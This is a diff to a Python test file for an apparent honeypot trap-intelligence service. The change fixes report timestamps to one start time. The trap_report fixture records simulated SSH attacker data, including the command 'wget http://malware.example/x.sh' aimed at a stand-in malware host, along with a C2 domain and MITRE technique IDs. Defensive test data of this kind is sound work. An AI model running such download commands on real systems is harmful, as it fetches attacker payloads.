@@ -219,10 +219,15 @@ def test_events_are_counted_in_the_metrics(launch):
 # --- trap intelligence ------------------------------------------------------------------------
 
 
+# One fixed time for every report of a run: identical reports must stay identical even when
+# the calls fall into different seconds.
+TRAP_STARTED = datetime.now(timezone.utc) - timedelta(minutes=30)
+
+
 def trap_report(**overrides) -> dict:
     body = {"trapId": "trap-fra-01", "trapType": "SSH", "attackerIP": "203.0.113.44",
-            "timestamp": iso(datetime.now(timezone.utc) - timedelta(minutes=30)),
-            "endedAt": iso(datetime.now(timezone.utc) - timedelta(minutes=29)), "port": 22, "protocol": "tcp",
+            "timestamp": iso(TRAP_STARTED), "endedAt": iso(TRAP_STARTED + timedelta(minutes=1)), "port": 22,
+            "protocol": "tcp",
             "usernames": ["root", "admin"], "commands": ["uname -a", "wget http://malware.example/x.sh"],
             "malwareHashes": ["D41D8CD98F00B204E9800998ECF8427E"], "urls": ["HTTP://Malware.Example/x.sh"],
             "domains": ["c2.malware.example."], "mitreTechniques": ["T1110.001", "T1105"], "region": "eu-central",
